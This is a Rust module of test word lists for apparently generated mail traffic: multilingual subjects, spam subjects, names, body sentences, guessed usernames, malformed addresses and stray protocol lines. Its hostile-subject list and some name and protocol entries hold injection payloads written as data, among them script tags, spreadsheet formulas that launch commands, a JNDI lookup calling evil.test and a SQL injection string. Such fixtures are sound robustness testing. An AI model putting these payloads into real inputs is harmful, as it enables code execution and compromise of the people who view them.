//! The words that letters are made of: a few subjects and sentences of
//! several languages, and some that try to do harm where they are shown.

/// Subjects of ordinary mail. `#` becomes a number.
pub(crate) const SUBJECTS: &[&str] = &[
    "Invoice # for October",
    "Re: meeting on Thursday",
    "Your order # has been shipped",
    "Minutes of the last call",
    "Quotation # as discussed",
    "Question about delivery note #",
    "Re: Re: contract draft, version #",
    "Holiday plan",
    "Rechnung # vom Oktober",
    "AW: Termin nächste Woche",
    "Rückfrage zu Auftrag #",
    "Facture n° # – échéance",
    "Réunion reportée à jeudi",
    "Presupuesto # para su revisión",
    "¿Podemos hablar mañana?",
    "Счёт № # за октябрь",
    "Фактура # за наплату",
    "お見積りの件（#）",
    "会议安排",
    "Zamówienie # – potwierdzenie",
    "",
];

/// Subjects of mail nobody asked for.
pub(crate) const SPAM_SUBJECTS: &[&str] = &[
    "You have won # EUR!!!",
    "Your parcel # is waiting, pay the customs fee",
    "Re: your account will be closed",
    "Ihr Paket # konnte nicht zugestellt werden",
    "Last warning: mailbox quota exceeded",
    "Cheap pills, #% off",
    "FW: unpaid invoice #",
    "Félicitations, vous avez gagné #",
];

/// Subjects that try to become something else where they are shown: markup,
/// reordered text, a spreadsheet formula, a terminal sequence, a new line.
pub(crate) const HOSTILE_SUBJECTS: &[&str] = &[
    "<script>alert('#')</script>",
    "\"><img src=x onerror=alert(#)>",
    "Photo \u{202e}gpj.exe",
    "=HYPERLINK(\"http://evil.test/#\",\"click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+#)*cmd|' /C calc'!A0",
    "\u{1b}[2Jcleared # \u{7}",
    "{{7*7}} ${jndi:ldap://evil.test/#}",
    "Zal\u{334}\u{328}\u{35c}go # \u{200b}\u{feff}",
];

/// Sentences of a body.
pub(crate) const SENTENCES: &[&str] = &[
    "Thank you for your message.",
    "Please find the document attached.",
    "We would be glad to hear from you by Friday.",
    "The delivery left our warehouse this morning.",
    "As discussed, we changed the second paragraph.",
    "Mit freundlichen Grüßen",
    "Vielen Dank für Ihre Geduld.",
    "Merci de nous confirmer la réception.",
    "Quedamos a la espera de su respuesta.",
    "Спасибо за ваше письмо.",
    "どうぞよろしくお願いいたします。",
    ".A line that begins with a dot must arrive with it.",
    "From here on the numbers are estimates.",
    "Let me know if Tuesday at ten suits you.",
];

/// Names that people show.
pub(crate) const NAMES: &[&str] = &[
    "Maria Rossi",
    "John Smith",
    "Jürgen Müller",
    "Yuki Tanaka",
    "Ольга Иванова",
    "Zoë O'Brien",
    "Accounts Department",
    "=1+1",
    "<b>Support</b>",
    "李雷",
];

/// Local parts that guessers try.
pub(crate) const GUESSES: &[&str] = &[
    "admin",
    "administrator",
    "root",
    "test",
    "webmaster",
    "hr",
    "contact",
    "hello",
    "john",
    "mary",
    "mike",
    "david",
    "service",
    "billing",
    "backup",
    "scan",
    "printer",
    "ceo",
    "cfo",
    "marketing",
    "finance",
    "it",
    "helpdesk",
    "noreply",
    "spam",
    "user",
    "guest",
    "mail",
];

/// Addresses that are none, for MAIL and RCPT.
pub(crate) const MALFORMED: &[&str] = &[
    "<ann..smith@corp.example>",
    "<ann@corp..example>",
    "<@corp.example>",
    "<ann@>",
    "<ann smith@corp.example>",
    "<ann@-corp.example>",
    "<ann@[300.1.2.3]>",
    "<ann\"@corp.example>",
    "ann@corp.example>",
];

/// What visitors say that take us for something else.
pub(crate) const BABBLE: &[&str] = &[
    "GET / HTTP/1.1",
    "Host: mail.corp.example",
    "User-Agent: Mozilla/5.0",
    "Accept: */*",
    "CONNECT smtp.test:25 HTTP/1.0",
    "SSH-2.0-Go",
    "AUTH LOGIN",
    "XCLIENT ADDR=127.0.0.1",
    "' OR 1=1 --",
];
